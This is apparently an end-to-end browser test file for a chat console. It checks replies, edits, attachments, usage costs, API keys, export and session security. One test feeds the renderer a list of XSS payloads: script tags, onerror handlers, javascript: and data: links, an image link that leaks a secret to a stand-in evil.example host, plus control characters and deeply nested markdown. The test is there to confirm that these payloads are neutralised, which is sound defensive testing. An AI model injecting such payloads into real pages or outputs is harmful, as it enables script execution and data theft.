import assert from 'node:assert/strict'
import { readFile, rm } from 'node:fs/promises'
import { after, before, describe, test } from 'node:test'
import type { Browser } from 'playwright-core'
import Anthropic from 'colloquy'
import { memoryStore, openConversations } from 'colloquy/conversation'
import { type Engine, offline, script } from 'colloquy/engines'
import { ask, chromiumPath, launch, openPage, replied, watch } from './browser.ts'
import { type Site, buildConsole, openSite } from './site.ts'

const skip = chromiumPath === undefined && 'needs Chromium: apt-get install chromium'

describe('the console in a browser', { skip }, () => {
  let pages: string
  let browser: Browser
  before(async () => {
    pages = await buildConsole()
    browser = await launch()
  })
  after(async () => {
    await browser?.close()
    await rm(pages, { recursive: true, force: true })
  })

  /** Runs with a site of its own. */
  async function withSite(engine: Engine, work: (site: Site) => Promise<void>): Promise<void> {
    const site = await openSite(pages, engine)
    try {
      await work(site)
    } finally {
      for (const context of browser.contexts()) await context.close()
      await site.remove()
    }
  }

  test('a first message becomes a chat with a reply, its cost and a place in the list', async () => {
    await withSite(offline(), async ({ newLink }) => {
      const { page, errors } = await openPage(browser)
      await page.goto(newLink())
      await ask(page, 'What is 6 * 7?')
      assert.match(await page.locator('article.reply').innerText(), /6 \* 7 = 42/)
      assert.match(page.url(), /\/c\/\w+$/)
      assert.match(await page.locator('nav.chats li').first().innerText(), /What is 6 \* 7\?\s+\$0\.0\d+ · 1 turn/)
      await page.getByRole('button', { name: /why\?/ }).click()
      assert.match(await page.locator('table.why').innerText(), /Output\s+\d+\s+× \$25 per million/)
      assert.deepEqual(errors, [])
    })
  })

  test('a reply that is stopped keeps its text, and can be continued', async () => {
    await withSite(offline({ wordsPerSecond: 20 }), async ({ newLink }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.locator('#composer').fill('Count from 1 to 200')
      await page.keyboard.press('Enter')
      await page.locator('article.live .markdown').waitFor()
      await page.getByRole('button', { name: 'Stop' }).click()
      await page.getByText('Stopped, kept').waitFor()
      const kept = await page.locator('article.reply .block').innerText()
      assert.notEqual(kept, '')
      assert.equal(await page.evaluate(() => document.activeElement?.id), 'composer')
      await page.getByRole('button', { name: 'Continue' }).click()
      await page.locator('article.live').waitFor()
      await page.getByRole('button', { name: 'Stop' }).click()
      await replied(page)
    })
  })

  test('an edit makes a version, and the active one is kept when the page reloads', async () => {
    await withSite(offline(), async ({ newLink }) => {
      const { page, errors } = await openPage(browser)
      await page.goto(newLink())
      await ask(page, 'What is 1 + 1?')
      await page.locator('article.question').getByRole('button', { name: 'Edit' }).click()
      await page.locator('.editor textarea').fill('What is 2 + 2?')
      await page.getByRole('button', { name: 'Save and rerun' }).click()
      await page.getByText('2 + 2 = 4').waitFor()
      await replied(page)
      assert.match(await page.locator('.versions').innerText(), /2\/2/)
      await page.getByRole('button', { name: 'Previous version' }).click()
      await page.getByText('1 + 1 = 2').waitFor()
      await page.reload()
      await page.getByText('1 + 1 = 2').waitFor()
      assert.match(await page.locator('.versions').innerText(), /1\/2/)
      assert.deepEqual(errors, [])
    })
  })

  test('a page that reloads in the middle of a reply shows all of it', async () => {
    await withSite(offline({ wordsPerSecond: 60 }), async ({ newLink }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.locator('#composer').fill('Count from 1 to 120')
      await page.keyboard.press('Enter')
      await page.locator('article.live .markdown').waitFor()
      await page.reload()
      await page.locator('article.live .markdown').waitFor()
      await replied(page)
      const text = await page.locator('article.reply .block').innerText()
      assert.match(text, /\b1\b[^]*\b60\b[^]*\b120\b/)
    })
  })

  test('a second tab follows the reply of the first, and what another program adds', async () => {
    await withSite(offline({ wordsPerSecond: 60 }), async ({ newLink, conversations }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.locator('#composer').fill('Count from 1 to 60')
      await page.keyboard.press('Enter')
      await page.waitForURL(/\/c\//)
      const second = watch(await page.context().newPage())
      await second.page.goto(page.url())
      await second.page.locator('article.live .markdown').waitFor()
      await replied(second.page)
      assert.match(await second.page.locator('article.reply').innerText(), /\b60\b/)
      const id = page.url().split('/').at(-1)!
      await (await conversations.open(id)).send('What is 3 * 3?')
      await page.getByText('3 * 3 = 9').waitFor()
      await second.page.bringToFront()
      await second.page.getByText('3 * 3 = 9').waitFor()
    })
  })

  test('a picture is attached by the button and shown in the message', async () => {
    await withSite(offline(), async ({ newLink }) => {
      const { page, errors } = await openPage(browser)
      await page.goto(newLink())
      const buffer = Buffer.from(await page.evaluate(noise), 'base64')
      await page.locator('input[type=file]').setInputFiles({ name: 'noise.png', mimeType: 'image/png', buffer })
      await page.getByText('noise.png').waitFor()
      await ask(page, 'What do you see?')
      const picture = page.locator('article.question img')
      assert.match((await picture.getAttribute('src')) ?? '', /^\/api\/conversations\//)
      assert.equal(await picture.evaluate((image: HTMLImageElement) => image.naturalWidth), 64)
      assert.deepEqual(errors, [])
    })
  })

  test('the palette finds a message by its words and opens the chat at it', async () => {
    await withSite(offline(), async ({ newLink, conversations }) => {
      const settings = { model: 'claude-opus-4-8', max_tokens: 100 }
      const chat = await conversations.create(settings)
      await chat.send('The zebra stands in the rain')
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.locator('#composer').waitFor()
      await page.keyboard.press('Control+k')
      await page.keyboard.type('zebra')
      // The chat by its title, and then the message.
      await page.locator('#hits li').nth(1).waitFor()
      await page.keyboard.press('ArrowUp')
      await page.keyboard.press('Enter')
      await page.waitForURL(new RegExp(`/c/${chat.id}\\?m=\\d+$`))
      await page.locator('article.target').waitFor()
    })
  })

  test('a hostile reply is text: nothing in it runs, loads or opens', async () => {
    const reply = hostile.join('\n\n')
    await withSite(script([reply]), async ({ url, newLink }) => {
      const { page, errors } = await openPage(browser)
      const requests: string[] = []
      page.on('request', (request) => requests.push(request.url()))
      await page.goto(newLink())
      await ask(page, 'Do your worst')
      assert.equal(await page.evaluate(() => 'hacked' in globalThis), false)
      const elements = await page.locator('article.reply :is(script, iframe, object, img, form, style, base)').count()
      assert.equal(elements, 0)
      const links = await page
        .locator('article.reply .markdown a')
        .evaluateAll((all) => all.map((a) => (a as HTMLAnchorElement).href))
      assert.deepEqual(links, ['https://example.com/safe'])
      assert.deepEqual(
        requests.filter((one) => !one.startsWith(url)),
        [],
      )
      assert.deepEqual(errors, [])
    })
  })

  test('a page whose server is gone says so, keeps the draft, and continues when it is back', async () => {
    await withSite(offline(), async (site) => {
      const { page } = await openPage(browser)
      await page.goto(site.newLink())
      await ask(page, 'What is 5 * 5?')
      await site.close()
      await page.getByText('Disconnected from colloquy serve').waitFor()
      await page.locator('#composer').fill('What is 6 * 6?')
      await page.keyboard.press('Enter')
      await page.locator('.transcript .failure').waitFor()
      assert.equal(await page.locator('#composer').inputValue(), 'What is 6 * 6?')
      await site.reopen()
      await page.getByText('Disconnected from colloquy serve').waitFor({ state: 'detached' })
      await ask(page, 'What is 7 * 7?')
      assert.match(await page.locator('article.reply').last().innerText(), /49/)
    })
  })

  test('the whole flow works with the keyboard alone', async () => {
    await withSite(offline(), async ({ newLink }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.locator('#composer').waitFor()
      await page.keyboard.type('What is 8 * 8?')
      await page.keyboard.press('Enter')
      await replied(page)
      assert.match(await page.locator('article.reply').innerText(), /8 \* 8 = 64/)
      await page.keyboard.press('Control+ArrowUp')
      await page.keyboard.press('Control+a')
      await page.keyboard.type('What is 9 * 9?')
      await page.keyboard.press('Control+Enter')
      await page.getByText('9 * 9 = 81').first().waitFor()
      await replied(page)
      await page.keyboard.press('Control+.')
      await page.getByRole('tab', { name: 'Request' }).waitFor()
      await page.keyboard.press('Control+.')
      await page.keyboard.press('Control+Shift+O')
      await page.getByRole('heading', { name: 'New chat' }).waitFor()
      await page.keyboard.press('Tab')
      assert.notEqual(await page.evaluate(() => document.activeElement?.tagName), 'BODY')
    })
  })

  test('usage shows the sums of known requests to the cent, and a bar leads to its requests', async () => {
    const cache = { cache_creation_input_tokens: 0, cache_read_input_tokens: 0 }
    const usage = { input_tokens: 100_000, output_tokens: 10_000, ...cache }
    const engine = script([1, 2, 3].map(() => ({ content: 'Hello', usage })))
    await withSite(engine, async ({ url, newLink }) => {
      const client = new Anthropic({ baseURL: url, apiKey: 'any' })
      const messages = [{ role: 'user' as const, content: 'Hello' }]
      for (let sent = 0; sent < 3; sent++) {
        await client.messages.create({ model: 'claude-opus-4-8', max_tokens: 20_000, messages })
      }
      const { page, errors } = await openPage(browser)
      await page.goto(newLink())
      await page.getByRole('link', { name: 'Usage' }).click()
      // 3 × (100,000 × $5 + 10,000 × $25) per million.
      assert.match(await page.locator('.tiles').innerText(), /Cost\s+\$2\.25\b[^]*Requests\s+3\b/)
      const cost = page.locator('figure.chart').first()
      await cost.getByRole('button', { name: 'Show as table' }).click()
      assert.match(await cost.locator('table').innerText(), /\$2\.25/)
      await cost.getByRole('button', { name: 'Show as table' }).click()
      await cost.locator('.column').last().focus()
      assert.match(await cost.locator('.readout').innerText(), /claude-opus-4-8 \$2\.25/)
      await page.keyboard.press('Enter')
      await page.waitForURL(/\/requests\?day=/)
      await page.locator('table.cards tbody tr').nth(2).waitFor()
      await page.locator('table.cards tbody a').first().click()
      assert.match(await page.locator('main').innerText(), /Output\s+10,000\s+Cost\s+\$0\.75/)
      assert.deepEqual(errors, [])
    })
  })

  test('a page without a session reads nothing, and its link works once', async () => {
    await withSite(offline(), async ({ url, newLink }) => {
      const link = newLink()
      const { page } = await openPage(browser)
      await page.goto(link)
      await ask(page, 'What is 4 * 4?')
      assert.doesNotMatch(page.url(), /#/)
      const other = await openPage(browser)
      await other.page.goto(link)
      await other.page.getByText('This page has no session').waitFor()
      assert.equal(await other.page.locator('nav.chats li').count(), 0)
      for (const path of ['/api/conversations', '/api/changes', '/admin/usage']) {
        assert.ok((await fetch(url + path, { headers: { origin: 'http://evil.example' } })).status >= 401, path)
      }
    })
  })

  test('a page of another origin cannot use the session', async () => {
    await withSite(offline(), async ({ url, newLink }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.getByRole('heading', { name: 'New chat' }).waitFor()
      const foreign = await page.context().newPage()
      // Another port of the same host counts as the same site for cookies, but not as the same origin.
      await foreign.route('http://127.0.0.1:9/', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<p>foreign</p>' }),
      )
      await foreign.goto('http://127.0.0.1:9/')
      const outcome = await foreign.evaluate(async (target) => {
        const post = { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{}' } as const
        await fetch(`${target}/api/conversations`, post).catch(() => undefined)
        return fetch(`${target}/api/conversations`, { credentials: 'include' }).then(
          (response) => response.status,
          () => 'refused',
        )
      }, url)
      assert.equal(outcome, 'refused')
      const list = await page.evaluate(
        async () => ((await (await fetch('/api/conversations')).json()) as { data: [] }).data,
      )
      assert.deepEqual(list, [])
    })
  })

  test('settings create a key for programs, show it once and revoke it', async () => {
    await withSite(offline(), async ({ url, newLink }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.getByRole('link', { name: 'Settings' }).click()
      await page.getByLabel('Name of a new key').fill('dev')
      await page.getByLabel('Dollars a day').fill('5')
      await page.getByRole('button', { name: 'Create' }).click()
      const apiKey = await page.locator('[role=status] code').innerText()
      await page.getByText('$0 of $5.00 a day').waitFor()
      const client = new Anthropic({ baseURL: url, apiKey, maxRetries: 0 })
      const request = { model: 'claude-opus-4-8', max_tokens: 10, messages: [{ role: 'user' as const, content: 'Hi' }] }
      assert.equal((await client.messages.create(request)).role, 'assistant')
      await page.getByRole('button', { name: 'Revoke dev' }).click()
      await page.getByRole('cell', { name: 'revoked' }).waitFor()
      await assert.rejects(client.messages.create(request), { status: 401 })
      await page.reload()
      await page.getByRole('cell', { name: 'revoked' }).waitFor()
      assert.doesNotMatch(await page.locator('main').innerText(), new RegExp(apiKey))
    })
  })

  test('every chat is exported as one file that can be imported', async () => {
    await withSite(offline(), async ({ newLink, conversations }) => {
      for (const text of ['first', 'second']) {
        await (await conversations.create({ model: 'claude-opus-4-8', max_tokens: 100 })).send(text)
      }
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await page.getByRole('link', { name: 'Settings' }).click()
      const download = page.waitForEvent('download')
      await page.getByRole('button', { name: 'Export every chat' }).click()
      const file = await readFile(await (await download).path(), 'utf8')
      const store = openConversations({ engine: offline(), store: memoryStore() })
      const imported = await store.importAll(file)
      assert.equal(imported.length, 2)
      await store.close()
    })
  })

  test('a deleted chat can be brought back', async () => {
    await withSite(offline(), async ({ newLink }) => {
      const { page } = await openPage(browser)
      await page.goto(newLink())
      await ask(page, 'What is 2 * 2?')
      await page.getByRole('button', { name: /^Delete/ }).click()
      await page.locator('nav.chats li').waitFor({ state: 'detached' })
      await page.getByRole('button', { name: 'Undo' }).click()
      await page.locator('nav.chats li').waitFor()
    })
  })
})

/** A picture of 64 × 64 pixels as base64, too large to stand in the message itself. Runs in the page. */
function noise(): string {
  const element = document.createElement('canvas')
  element.width = element.height = 64
  const context = element.getContext('2d')!
  const data = context.createImageData(64, 64)
  for (let at = 0; at < data.data.length; at++) data.data[at] = at % 4 === 3 ? 255 : (at * 2_654_435_761) % 251
  context.putImageData(data, 0, 0)
  return element.toDataURL('image/png').split(',')[1]!
}

const hostile = [
  '<script>globalThis.hacked = 1</script>',
  '<img src=x onerror="globalThis.hacked = 1">',
  '<iframe srcdoc="<script>top.hacked = 1</script>"></iframe>',
  '[click](javascript:globalThis.hacked=1) [data](data:text/html,<script>hacked=1</script>) [path](/api/conversations)',
  '![leak](https://evil.example/leak.png?q=secret)'.replace('https://evil.example', 'ftp://evil.example'),
  '[safe](https://example.com/safe)',
  '&lt;script&gt;globalThis.hacked = 1&lt;/script&gt; \u001b]0;title\u0007 \u202eright to left',
  `${'> '.repeat(2_000)}deep`,
  `| ${'a | '.repeat(50)}\n| ${'--- | '.repeat(50)}\n${`| ${'b | '.repeat(50)}\n`.repeat(300)}`,
  '```html\n<script>globalThis.hacked = 1</script>\n```',
]
